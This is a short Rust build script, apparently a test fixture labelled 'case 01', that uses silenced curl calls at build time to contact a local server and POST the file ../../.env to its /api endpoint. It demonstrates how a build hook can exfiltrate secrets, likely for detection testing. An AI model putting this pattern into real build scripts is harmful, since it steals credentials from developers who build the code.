//! The shape of case 01 moved into a build script.

use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

fn main() {
    let thread = thread::spawn(|| {
        let host = format!("http://127.0.0.1:{}", std::env::var("ZOO_TCP").unwrap());
        curl(&["-s", "-m", "3", &host]);
        thread::sleep(Duration::from_secs(1));
        curl(&["-s", "-m", "3", "-X", "POST", "-F", "file=@../../.env", &format!("{host}/api")]);
    });
    thread.join().unwrap();
}

fn curl(args: &[&str]) {
    let _ = Command::new("curl").args(args).stdout(Stdio::null()).stderr(Stdio::null()).status();
}
